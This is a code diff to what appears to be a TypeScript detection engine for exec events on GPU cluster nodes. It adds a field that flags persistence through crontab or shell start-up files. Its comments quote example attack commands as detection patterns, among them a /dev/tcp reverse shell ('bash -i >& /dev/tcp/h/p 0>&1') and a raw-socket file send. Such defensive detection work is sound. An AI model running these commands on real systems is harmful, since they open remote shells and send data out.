@@ -22,6 +22,8 @@
  * destination (`rsync -az /mnt/ckpt/ u@h:/x/` gives `rsync`) (exec-command-lines.ts);
  * `attrs.exec.socketIo`: commands on a raw socket (`cat f > /dev/tcp/h/p` gives `send cat`, `bash -i
  * >& /dev/tcp/h/p 0>&1` gives `shell bash`; exec-socket-io.ts);
+ * `attrs.exec.persists`: what the exec leaves to run again (`crontab -` gives `cron`, `>> ~/.bashrc`
+ * gives `profile`; exec-persistence.ts);
  * `actorNamespace`: the namespace of a service-account actor (where its token belongs).
  * GPU-window rules use job, node, gpu, `duration` (seconds) and `<DCGM field>[.mean|.max|.min]`.
  */
@@ -210,6 +212,8 @@ const EXEC_CLIENT_INPUT = 'exec.clientInput';
 const EXEC_COPIES_TO_REMOTE = 'exec.copiesToRemote';
 /** Commands on a raw socket: bash's /dev/tcp, nc -e, a shell piped to nc (exec-socket-io.ts). */
 const EXEC_SOCKET_IO = 'exec.socketIo';
+/** What the exec leaves to run again: a crontab, a unit, a start-up file (exec-persistence.ts). */
+const EXEC_PERSISTS = 'exec.persists';
 
 /** Derived exec fields by their path below `attrs.`. */
 const EXEC_DERIVED: Readonly<Record<string, (e: EventRecord) => unknown>> = {
@@ -221,6 +225,7 @@ const EXEC_DERIVED: Readonly<Record<string, (e: EventRecord) => unknown>> = {
   [EXEC_CLIENT_INPUT]: canonicalListField(EXEC_CLIENT_INPUT, (c) => c.clientLines),
   [EXEC_COPIES_TO_REMOTE]: canonicalListField(EXEC_COPIES_TO_REMOTE, (c) => c.remoteCopyTools),
   [EXEC_SOCKET_IO]: canonicalListField(EXEC_SOCKET_IO, (c) => c.socketIo),
+  [EXEC_PERSISTS]: canonicalListField(EXEC_PERSISTS, (c) => c.persists),
 };
 
 const TOP: Readonly<Record<string, (e: EventRecord) => unknown>> = {
